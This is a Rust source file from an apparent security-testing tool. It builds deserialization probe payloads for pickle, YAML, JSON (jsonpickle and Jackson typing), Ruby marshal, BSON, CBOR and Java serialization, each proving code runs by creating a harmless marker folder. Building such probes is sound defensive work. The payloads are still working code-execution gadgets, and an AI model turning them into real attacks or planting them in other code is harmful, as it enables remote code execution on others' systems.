//! Documents that name code: harmless, but they leave a trace when it runs.
//!
//! Every trace is a file or folder in the working folder of the contender's process, which is a
//! fresh sandbox. If the runtime's own library can make one (Python's `os.mkdir`, Java's
//! `FileOutputStream`), nothing else is needed, and the document is proved to choose what runs.
//! Otherwise the document names the class of `lab/payloads`, which is loaded into the process for
//! this purpose, or one of the runtime's own classes whose error message shows that one of its
//! methods was given the document's text: this proves that methods run, and no more.
//!
//! If you add one, `docs/safety.md` lists them.

use crate::model::report::Reach;

/// The marker that payloads make in the working folder.
pub(crate) const MARKER: &str = "regauge-marker";
/// The marker that the class of `lab/payloads` makes when one of its methods runs.
pub(crate) const METHOD: &str = "regauge-method";
/// The marker that it makes at the end of the process if one of its objects was made.
pub(crate) const OBJECT: &str = "regauge-object";

/// The evidence that a payload worked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Evidence {
    /// A file or folder with this name exists.
    File(&'static str),
    /// The error that the library raised holds these words, which only the named method says.
    Told(&'static str),
}

/// A document that names code.
#[derive(Debug, Clone)]
pub(crate) struct Payload {
    /// What it is, for people.
    pub name: &'static str,
    pub document: Vec<u8>,
    pub evidence: Evidence,
    /// What the evidence proves.
    pub proves: Reach,
}

/// Returns the payloads of a format, by its name as adapters write it; none if the format has no
/// means to name code, and no library is known to give it one.
pub(crate) fn of(format: &str) -> Vec<Payload> {
    match format {
        "json" => json(),
        "yaml" => yaml(),
        "pickle" => pickle(),
        "marshal" => marshal(),
        "bson" => bson(),
        "cbor" => cbor(),
        "java-serialization" => java(),
        _ => Vec::new(),
    }
}

fn code(name: &'static str, document: impl Into<Vec<u8>>) -> Payload {
    let evidence = Evidence::File(MARKER);
    Payload { name, document: document.into(), evidence, proves: Reach::Code }
}

fn method(name: &'static str, document: impl Into<Vec<u8>>) -> Payload {
    let evidence = Evidence::File(METHOD);
    Payload { name, document: document.into(), evidence, proves: Reach::Methods }
}

fn object(name: &'static str, document: impl Into<Vec<u8>>) -> Payload {
    let evidence = Evidence::File(OBJECT);
    Payload { name, document: document.into(), evidence, proves: Reach::Objects }
}

fn json() -> Vec<Payload> {
    vec![
        method(
            "json_class, as Ruby's create_additions reads it",
            r#"{"json_class":"RegaugeProbe"}"#,
        ),
        object("^o, as Oj's object mode reads it", r#"{"^o":"RegaugeProbe","a":1}"#),
        code(
            "py/reduce of os.mkdir, as jsonpickle reads it",
            format!(
                r#"{{"py/reduce":[{{"py/function":"os.mkdir"}},{{"py/tuple":["{MARKER}"]}}]}}"#
            ),
        ),
        code(
            "a class by name before its value, as Jackson's default typing reads it",
            format!(r#"["java.io.FileOutputStream","{MARKER}"]"#),
        ),
    ]
}

fn yaml() -> Vec<Payload> {
    vec![
        code(
            "!!python/object/apply:os.mkdir",
            format!("!!python/object/apply:os.mkdir [\"{MARKER}\"]\n"),
        ),
        code(
            "!!python/object/new:os.mkdir",
            format!("!!python/object/new:os.mkdir [\"{MARKER}\"]\n"),
        ),
        method("!ruby/object with init_with", "--- !ruby/object:RegaugeProbe\na: 1\n"),
        object("!ruby/object", "--- !ruby/object:RegaugeProbe {}\n"),
        code(
            "!!java.io.FileOutputStream, as SnakeYAML 1 reads it",
            format!("!!java.io.FileOutputStream [\"{MARKER}\"]\n"),
        ),
        // A function alone does not run: as `toString` of a key it does.
        code(
            "!!js/function as a key's toString",
            format!(
                "? {{toString: !!js/function \"function () {{ \
                 process.mainModule.require('fs').mkdirSync('{MARKER}'); return 'x'; }}\"}}\n: 1\n"
            ),
        ),
    ]
}

fn pickle() -> Vec<Payload> {
    let mut four = b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c".to_vec();
    four.push(MARKER.len() as u8);
    four.extend_from_slice(MARKER.as_bytes());
    four.extend_from_slice(b"\x85R.");
    vec![
        code("REDUCE of os.mkdir, protocol 0", format!("cos\nmkdir\n(V{MARKER}\ntR.")),
        code("INST of os.mkdir, protocol 0", format!("(V{MARKER}\nios\nmkdir\n.")),
        code("STACK_GLOBAL and REDUCE of os.mkdir, protocol 4", four),
    ]
}

fn marshal() -> Vec<Payload> {
    // A symbol's length is written plus 5: both names have 12 characters.
    let version = b"\x04\x08U:\x11Gem::Version[\x06\"\x13regauge marker".to_vec();
    vec![
        method("marshal_load of a class by name", b"\x04\x08U:\x11RegaugeProbe[\x00".to_vec()),
        method("_load of a class by name", b"\x04\x08u:\x11RegaugeProbe\x06x".to_vec()),
        Payload {
            name: "marshal_load of Gem::Version, which comes with Ruby",
            document: version,
            evidence: Evidence::Told("Malformed version number string regauge marker"),
            proves: Reach::Methods,
        },
        object("an object of a class by name", b"\x04\x08o:\x11RegaugeProbe\x00".to_vec()),
    ]
}

fn bson() -> Vec<Payload> {
    let script = format!("require('fs').mkdirSync('{MARKER}')\0");
    let mut document = Vec::new();
    document.extend_from_slice(&(4 + 1 + 2 + 4 + script.len() as u32 + 1).to_le_bytes());
    document.extend_from_slice(b"\x0da\0");
    document.extend_from_slice(&(script.len() as u32).to_le_bytes());
    document.extend_from_slice(script.as_bytes());
    document.push(0);
    vec![code("JavaScript code", document)]
}

fn cbor() -> Vec<Payload> {
    // Tag 27: an object by the name of its class (http://cbor.schmorp.de/generic-object).
    let mut mkdir = b"\xd8\x1b\x82\x68os.mkdir\x60".to_vec();
    mkdir.pop();
    mkdir.push(0x60 + MARKER.len() as u8);
    mkdir.extend_from_slice(MARKER.as_bytes());
    vec![
        code("tag 27 of os.mkdir", mkdir),
        method("tag 27 of a class by name", b"\xd8\x1b\x81\x6cRegaugeProbe".to_vec()),
    ]
}

fn java() -> Vec<Payload> {
    let mut uri = b"\xac\xed\x00\x05\x73\x72\x00\x0cjava.net.URI".to_vec();
    uri.extend_from_slice(&(-6_052_424_284_110_960_213_i64).to_be_bytes());
    // One field; the class writes itself (flag 1) after what is written by default (flag 2).
    uri.extend_from_slice(b"\x03\x00\x01L\x00\x06stringt\x00\x12Ljava/lang/String;xp");
    uri.extend_from_slice(b"t\x00\x0eregauge markerx");
    vec![Payload {
        name: "readObject of java.net.URI",
        document: uri,
        evidence: Evidence::Told("Invalid URI"),
        proves: Reach::Methods,
    }]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_small_and_named_once() {
        for format in ["json", "yaml", "pickle", "marshal", "bson", "cbor", "java-serialization"] {
            let list = of(format);
            assert!(!list.is_empty(), "{format}");
            let mut names: Vec<&str> = list.iter().map(|one| one.name).collect();
            names.sort_unstable();
            names.dedup();
            assert_eq!(names.len(), list.len(), "{format}");
            assert!(list.iter().all(|one| one.document.len() < 300), "{format}");
        }
        assert!(of("msgpack").is_empty() && of("marc").is_empty());
    }
}
